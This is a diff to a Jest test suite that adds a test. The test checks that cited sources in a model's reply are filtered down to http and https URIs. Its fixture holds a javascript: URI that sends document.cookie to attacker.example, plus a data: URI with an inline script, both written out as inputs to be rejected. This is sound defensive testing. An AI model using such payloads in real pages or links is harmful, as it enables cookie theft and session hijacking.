@@ -6,7 +6,8 @@ import { ProviderScript, ROOMY_RATE_LIMITS, TaskApi, uniqueQuery } from '../task
 
 jest.setTimeout(30_000);
 
-// Contract §11: a model's reply text is read up to 256 kB and searched in linear time.
+// Contract §11: a model's reply text is read up to 256 kB and searched in linear time; its
+// sources keep only http and https URIs.
 describe('Model replies a provider cannot be trusted with', () => {
   let standIn: GeminiStandIn;
   let testApp: TestApp;
@@ -66,6 +67,27 @@ describe('Model replies a provider cannot be trusted with', () => {
       status: 'success',
       condition_met: true,
       answer: 'Found it.',
+    });
+  });
+
+  it('should record only the http and https sources when the reply cites a javascript: uri', async () => {
+    const query = uniqueQuery('script source');
+    provider.script(
+      query,
+      standIn.checkReply({
+        conditionMet: true,
+        answer: 'Found it.',
+        sources: [
+          { uri: 'javascript:fetch("//attacker.example/?c="+document.cookie)', title: 'Details' },
+          { uri: 'https://example.com/release', title: 'Release notes' },
+          { uri: 'data:text/html,<script>alert(1)</script>', title: 'More' },
+        ],
+      }),
+    );
+    const execution = await runOnce(query);
+    expect(execution).toMatchObject({
+      status: 'success',
+      grounding_sources: [{ uri: 'https://example.com/release', title: 'Release notes' }],
     });
   });
 });
